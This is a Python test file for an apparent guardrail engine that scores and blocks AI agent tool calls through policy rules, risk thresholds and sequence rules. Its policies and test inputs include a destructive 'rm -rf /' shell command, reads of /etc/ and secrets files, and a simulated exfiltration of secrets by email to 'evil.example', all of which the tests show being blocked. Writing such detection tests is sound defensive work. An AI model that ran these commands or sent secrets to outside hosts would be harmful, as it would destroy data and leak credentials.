"""Progressive mode (rules + risk score) and sequence rules, on the engine and end to end."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest

import thoth_nb
from thoth_nb._models import DecisionType
from thoth_nb.engine import Engine, SQLiteStore, parse_policy
from thoth_nb.engine.decide import wire_response
from thoth_nb.engine.risk import WARMUP_CALLS, combine, rarity

POLICY = """
risk_thresholds: {step_up: 40, block: 80}
rules:
  - {id: etc, tool: read_file, when: {path: {regex: "^/etc/"}}, decision: block, severity: high}
  - {id: nuke, tool: shell, when: {cmd: {contains: "rm -rf"}}, decision: block, severity: critical}
  - {id: mild, tool: pay, when: {amount: {gt: 100}}, decision: block, severity: low}
"""
TOOLS = ["read_file", "search", "shell", "pay", "deploy", "send_email", "web_search"]


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def engine(tmp_path: Path, clock: Clock) -> Engine:
    return Engine(SQLiteStore(tmp_path / "p.db"), parse_policy(POLICY), clock=clock)


def req(tool: str, args: dict[str, Any] | None = None, session: str = "s1", mode: str = "progressive",
        agent: str = "a") -> dict[str, Any]:
    body: dict[str, Any] = {"agent_id": agent, "tenant_id": "t", "user_id": "u", "tool_name": tool,
                            "session_id": session, "approved_scope": TOOLS, "enforcement_mode": mode,
                            "session_tool_calls": [tool]}
    if args is not None:
        body["tool_args"] = args
    return body


def warm(engine: Engine, clock: Clock, n: int = WARMUP_CALLS, tool: str = "search") -> None:
    for i in range(n):
        clock.now += 5.0  # slow enough never to look like a burst
        assert engine.decide(req(tool, {"q": i}, session=f"warm-{i}")).decision is DecisionType.ALLOW


def test_risk_formulas() -> None:
    assert rarity(0.0) == 1.0 and rarity(0.5) == 0.0 and rarity(0.1) == 0.0
    assert rarity(0.01) == pytest.approx(1 / 3) and rarity(1e-4) == 1.0
    assert combine({}) == 0.0 and combine({"a": 50.0, "b": 50.0}) == 75.0 and combine({"a": 100.0}) == 100.0


def test_low_risk_allows_without_storage(engine: Engine, clock: Clock) -> None:
    warm(engine, clock)
    d = engine.decide(req("search", {"q": "x"}))
    assert d.decision is DecisionType.ALLOW and d.score_components is None
    assert engine.store.violations("t") == []


def test_rare_tool_steps_up_with_its_factor_recorded(engine: Engine, clock: Clock) -> None:
    warm(engine, clock)
    clock.now += 5
    d = engine.decide(req("deploy", {"env": "prod"}, session="new"))
    assert d.decision is DecisionType.STEP_UP and d.hold_token
    assert d.decision_reason_code == "step_up_high_risk"
    assert d.matched_rule_ids == ["risk:rare_tool"]
    assert d.score_components == {"rare_tool": 60.0, "risk_score": 60.0, "step_up_at": 40.0, "block_at": 80.0}
    assert d.risk_score == 60.0
    body = wire_response(d)
    assert body["score_components"]["rare_tool"] == 60.0  # passed through on the wire
    assert thoth_nb.EnforcementDecision.from_response(body).score_components == d.score_components


def test_no_anomaly_before_warmup(engine: Engine, clock: Clock) -> None:
    warm(engine, clock, n=WARMUP_CALLS - 1)
    assert engine.decide(req("deploy", {}, session="new")).decision is DecisionType.ALLOW


def test_burst_plus_rare_tool_blocks(engine: Engine, clock: Clock) -> None:
    warm(engine, clock)
    decisions = [engine.decide(req("search", {"q": i}, session="burst")) for i in range(60)]  # same instant
    assert decisions[10].decision is DecisionType.ALLOW  # 11 calls in 10 s: under BURST_CALLS
    last = decisions[-1]
    assert last.decision is DecisionType.STEP_UP and last.matched_rule_ids == ["risk:rate_burst"]
    d = engine.decide(req("deploy", {}, session="burst"))  # rare tool (60) during a burst (60): 84 ≥ 80
    assert d.decision is DecisionType.BLOCK and d.decision_reason_code == "high_risk_score"
    assert set(d.matched_rule_ids) == {"risk:rare_tool", "risk:rate_burst"} and d.risk_score == 84.0


def test_rule_violation_follows_protocol_then_risk_raises(engine: Engine, clock: Clock) -> None:
    # §8: the first violation of a session steps up, the next blocks (severity high: 75 < 80)
    first = engine.decide(req("read_file", {"path": "/etc/a"}, session="r"))
    second = engine.decide(req("read_file", {"path": "/etc/b"}, session="r"))
    assert (first.decision, second.decision) == (DecisionType.STEP_UP, DecisionType.BLOCK)
    assert first.score_components == {"rule": 75.0, "risk_score": 75.0, "step_up_at": 40.0, "block_at": 80.0}
    assert first.matched_rule_ids == ["etc"]
    # a critical rule (95 ≥ block threshold 80) blocks at once, even as the session's first violation
    d = engine.decide(req("shell", {"cmd": "rm -rf /"}, session="c"))
    assert d.decision is DecisionType.BLOCK and d.risk_score == 95.0
    # a low-severity rule is never softened to ALLOW by its low score: §8 still steps up first
    assert engine.decide(req("pay", {"amount": 500}, session="p")).decision is DecisionType.STEP_UP


def test_thresholds_come_from_the_policy(tmp_path: Path, clock: Clock) -> None:
    strict = Engine(SQLiteStore(tmp_path / "s.db"), parse_policy(POLICY.replace("step_up: 40, block: 80",
                                                                                 "step_up: 10, block: 50")),
                    clock=clock)
    warm(strict, clock)
    assert strict.decide(req("deploy", {}, session="n")).decision is DecisionType.BLOCK  # 60 ≥ 50


def test_other_modes_ignore_the_risk_score(engine: Engine, clock: Clock) -> None:
    for i in range(WARMUP_CALLS):
        clock.now += 5
        engine.decide(req("search", {"q": i}, session=f"w{i}", mode="block"))
    d = engine.decide(req("deploy", {}, session="n", mode="block"))
    assert d.decision is DecisionType.ALLOW and d.score_components is None


# --- sequence rules ------------------------------------------------------------------------------

SEQUENCE_POLICY = r"""
rules:
  - id: no-exfil-after-secrets
    tool: send_email
    when: {to: {regex: "@(?!corp\\.example$)"}}
    after:
      - {tool: read_file, when: {path: {regex: "(^|/)secrets/"}}}
    decision: block
    severity: critical
    reason: sending mail outside the company after reading secrets
"""


def test_sequence_rule_on_the_engine(tmp_path: Path) -> None:
    engine = Engine(SQLiteStore(tmp_path / "q.db"), parse_policy(SEQUENCE_POLICY))

    def send(session: str, to: str) -> DecisionType:
        return engine.decide(req("send_email", {"to": to, "body": "x"}, session=session, mode="block")).decision

    scope = {"mode": "block"}
    assert send("a", "x@evil.example") is DecisionType.ALLOW  # no secrets read yet
    engine.decide(req("read_file", {"path": "docs/secrets.md"}, session="a", **scope))  # not *under* secrets/
    assert send("a", "x@evil.example") is DecisionType.ALLOW
    engine.decide(req("read_file", {"path": "project/secrets/prod.env"}, session="a", **scope))
    assert send("a", "boss@corp.example") is DecisionType.ALLOW  # internal domain
    assert send("a", "x@evil.example") is DecisionType.BLOCK
    assert send("b", "x@evil.example") is DecisionType.ALLOW  # another session read nothing


def test_a_blocked_read_does_not_arm_a_sequence_rule(tmp_path: Path) -> None:
    policy = SEQUENCE_POLICY + """
  - {id: no-secrets, tool: read_file, when: {path: {contains: prod.env}}, decision: block}
"""
    engine = Engine(SQLiteStore(tmp_path / "q.db"), parse_policy(policy))
    blocked = engine.decide(req("read_file", {"path": "secrets/prod.env"}, session="a", mode="block"))
    assert blocked.decision is DecisionType.BLOCK
    assert engine.decide(req("send_email", {"to": "x@evil.example"}, session="a", mode="block")).decision is \
        DecisionType.ALLOW


def test_sequence_rule_end_to_end_through_instrument(tmp_path: Path) -> None:
    policy_file = tmp_path / "policy.yaml"
    policy_file.write_text(SEQUENCE_POLICY, encoding="utf-8")
    sent: list[str] = []

    def read_file(path: str) -> str:
        return f"contents of {path}"

    def send_email(to: str, body: str) -> str:
        sent.append(to)
        return "sent"

    tools: list[Any] = [read_file, send_email]
    thoth_nb.instrument(tools, agent_id="mailer", approved_scope=["read_file", "send_email"], tenant_id="t",
                        session_id=str(uuid.uuid4()), policy=str(policy_file), enforcement="block")
    tools[1](to="x@evil.example", body="hello")
    tools[0](path="secrets/prod.env")
    tools[1](to="boss@corp.example", body="summary")
    with pytest.raises(thoth_nb.ThothPolicyViolation) as info:
        tools[1](to="x@evil.example", body="AWS_SECRET=...")
    assert "outside the company" in str(info.value)
    assert sent == ["x@evil.example", "boss@corp.example"]  # the exfiltration never ran
    thoth_nb.flush()
    rows = thoth_nb.violations(tenant_id="t")
    assert list(rows["tool_name"].astype(str)) == ["send_email"]
    assert list(rows["matched_rule_ids"].iloc[0]) == ["no-exfil-after-secrets"]


def test_risk_model_seeded_from_an_analytics_baseline(engine: Engine, clock: Clock) -> None:
    from thoth_nb.analytics.baseline import baseline
    from thoth_nb.analytics.synthetic import synthetic_events

    history = baseline(synthetic_events(2_000, seed=3))
    tools = history[(history["kind"] == "tool") & (history["agent_id"] == "research")]
    engine.risk.seed("t", "a", dict(zip(tools["tool_name"], tools["count"].astype(int), strict=True)))
    clock.now += 5
    assert engine.decide(req("web_search", {"q": "x"}, session="s")).decision is DecisionType.ALLOW  # 50 % share
    clock.now += 5
    rare = engine.decide(req("deploy", {}, session="s"))  # never seen in the baseline: no warm-up needed
    assert rare.decision is DecisionType.STEP_UP and rare.matched_rule_ids == ["risk:rare_tool"]
